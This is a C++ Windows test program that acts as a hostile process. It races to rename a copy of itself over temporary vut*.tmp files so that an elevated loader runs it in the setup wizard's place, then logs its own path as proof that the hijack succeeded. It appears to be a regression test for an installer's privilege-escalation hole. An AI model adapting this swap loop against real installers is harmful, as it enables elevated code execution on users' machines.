// A hostile program of the user's own: it watches a folder and the folders in
// it, and keeps renaming a copy of itself over every vut*.tmp that appears
// there, hoping that the loader starts it, elevated, in the wizard's place.
//
//   renamer_host.exe <folder with trailing backslash> <milliseconds to run>
//
// Started in the wizard's place (its own file is then a vut*.tmp), it appends
// its path to the file named by QUELT_HIJACK_LOG and ends: that line is the
// attack's success. Otherwise it ends by itself after the given time.
#include <windows.h>

#include <cstdlib>
#include <iterator>
#include <set>
#include <string>

namespace {

std::string OwnPath()
{
    char path[MAX_PATH] = {};
    GetModuleFileNameA(nullptr, path, MAX_PATH);
    return path;
}

bool IsTempName(const std::string& path)
{
    const size_t slash = path.find_last_of('\\');
    const std::string name = path.substr(slash == std::string::npos ? 0 : slash + 1);
    return name.size() > 7 && CompareStringA(LOCALE_INVARIANT, NORM_IGNORECASE, name.c_str(), 3, "vut", 3) ==
                                  CSTR_EQUAL &&
           CompareStringA(LOCALE_INVARIANT, NORM_IGNORECASE, name.c_str() + name.size() - 4, 4, ".tmp", 4) ==
               CSTR_EQUAL;
}

int RecordHijack(const std::string& self)
{
    char log[MAX_PATH] = {};
    if (GetEnvironmentVariableA("QUELT_HIJACK_LOG", log, MAX_PATH) == 0)
        return 2;
    const HANDLE file = CreateFileA(log, FILE_APPEND_DATA, FILE_SHARE_READ | FILE_SHARE_WRITE, nullptr, OPEN_ALWAYS,
                                    FILE_ATTRIBUTE_NORMAL, nullptr);
    if (file == INVALID_HANDLE_VALUE)
        return 3;
    const std::string line = self + "\r\n";
    DWORD written = 0;
    WriteFile(file, line.data(), static_cast<DWORD>(line.size()), &written, nullptr);
    CloseHandle(file);
    return 0;
}

// What `pattern` finds: files, or folders other than "." and "..", as full paths.
std::set<std::string> Found(const std::string& pattern, bool folders)
{
    std::set<std::string> paths;
    const std::string folder = pattern.substr(0, pattern.find_last_of('\\') + 1);
    WIN32_FIND_DATAA found;
    const HANDLE search = FindFirstFileA(pattern.c_str(), &found);
    if (search == INVALID_HANDLE_VALUE)
        return paths;
    do {
        const bool folderFound = (found.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY) != 0;
        if (folderFound == folders && found.cFileName[0] != '.')
            paths.insert(folder + found.cFileName + (folders ? "\\" : ""));
    } while (FindNextFileA(search, &found));
    FindClose(search);
    return paths;
}

// `folder` and the folders in it, where a loader may make its own.
std::set<std::string> Folders(const std::string& folder)
{
    std::set<std::string> places = Found(folder + "*", true);
    places.insert(folder);
    return places;
}

} // namespace

int WINAPI WinMain(HINSTANCE, HINSTANCE, LPSTR, int)
{
    const std::string self = OwnPath();
    if (IsTempName(self))
        return RecordHijack(self);
    if (__argc < 3)
        return 1;
    const std::string folder = __argv[1];
    const DWORD runMs = static_cast<DWORD>(std::strtoul(__argv[2], nullptr, 10));
    const std::string bait = folder + "renamer-" + std::to_string(GetCurrentProcessId()) + ".exe";

    // Every name seen is hammered until a rename over it lands; the folder
    // is looked at again now and then for new names.
    std::set<std::string> targets, taken;
    bool baitReady = false;
    unsigned long round = 0;
    for (const DWORD started = GetTickCount(); GetTickCount() - started < runMs; ++round) {
        if (round % 32 == 0) {
            // A name taken and since gone may come back as the next file's.
            std::set<std::string> present;
            for (const std::string& place : Folders(folder)) {
                for (const std::string& target : Found(place + "vut*.tmp", false)) {
                    present.insert(target);
                    if (!taken.count(target))
                        targets.insert(target);
                }
            }
            for (auto name = taken.begin(); name != taken.end();)
                name = present.count(*name) ? std::next(name) : taken.erase(name);
        }
        if (targets.empty()) {
            Sleep(0);
            continue;
        }
        for (auto target = targets.begin(); target != targets.end();) {
            if (!baitReady)
                baitReady = CopyFileA(self.c_str(), bait.c_str(), FALSE) != 0;
            // Refused while any handle to the target denies delete sharing.
            if (baitReady && MoveFileExA(bait.c_str(), target->c_str(), MOVEFILE_REPLACE_EXISTING)) {
                baitReady = false;
                taken.insert(*target);
                target = targets.erase(target);
            } else {
                ++target;
            }
        }
    }
    DeleteFileA(bait.c_str());
    return 0;
}
